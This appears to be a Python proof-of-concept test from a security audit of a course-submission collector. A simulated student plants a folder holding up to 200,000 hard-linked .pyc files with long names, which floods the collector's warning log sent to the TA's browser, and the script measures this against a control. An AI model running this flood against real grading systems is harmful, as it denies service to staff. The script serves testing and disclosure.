"""a09: SafeCollect logs one warning per file it leaves out ("not collected: '<path>' (a file the course does not take)")
and never reads or copies such a file, so it costs the student a directory entry only: N hard links of one empty
`*.pyc` file with long names (CourseDirectory.ignore). Through the Collect button, the whole log goes back to the TA's
browser in one JSON answer. Measured here on the CLI: bytes of log and time, against a control without her names."""
from lib import *
A = "ps1_memory"; N = int(os.environ.get("N", "200000"))
add_accounts()
try:
    for run in ("control", "mallory"):
        d = make_course("a09")
        X, inbound = make_exchange("a09")
        chown(d); os.chmod(d, 0o700)
        honest_inbound(inbound, A)
        if run == "mallory":
            tmp = "/tmp/attack39-user-a09-m.ipynb"; nbformat.write(honest(A), tmp); os.chmod(tmp, 0o644)
            as_student(2392, f"""
import os, shutil
p = '{inbound}/mallory39u+{A}+2026-11-29 11:00:00.000000 UTC+' + 'r' * 180; os.mkdir(p); os.chmod(p, 0o755)
shutil.copy('{tmp}', p + '/{A}.ipynb')
os.mkdir(p + '/' + 'd' * 250)
q = p + '/' + 'd' * 250 + '/'
for i in range({N}):
    name = q + ('%08d' % i) + 'x' * 230 + '.pyc'
    if i % 60000 == 0: src = name; open(src, 'w').close(); continue
    os.link(src, name)
""")
            os.system(f"du -sh {inbound}/mallory39u*")
        r = collect(d, X, A, timeout=3000)
        out = r.stdout + r.stderr
        print(f"[{run}] collect log: {len(out):,} bytes, {out.count(chr(10)):,} lines")
        os.system(f"ls {d}/submitted/")
        shutil.rmtree(d, ignore_errors=True); shutil.rmtree(X, ignore_errors=True)
finally:
    if os.path.exists("/tmp/attack39-user-a09-m.ipynb"): os.unlink("/tmp/attack39-user-a09-m.ipynb")
    del_accounts()
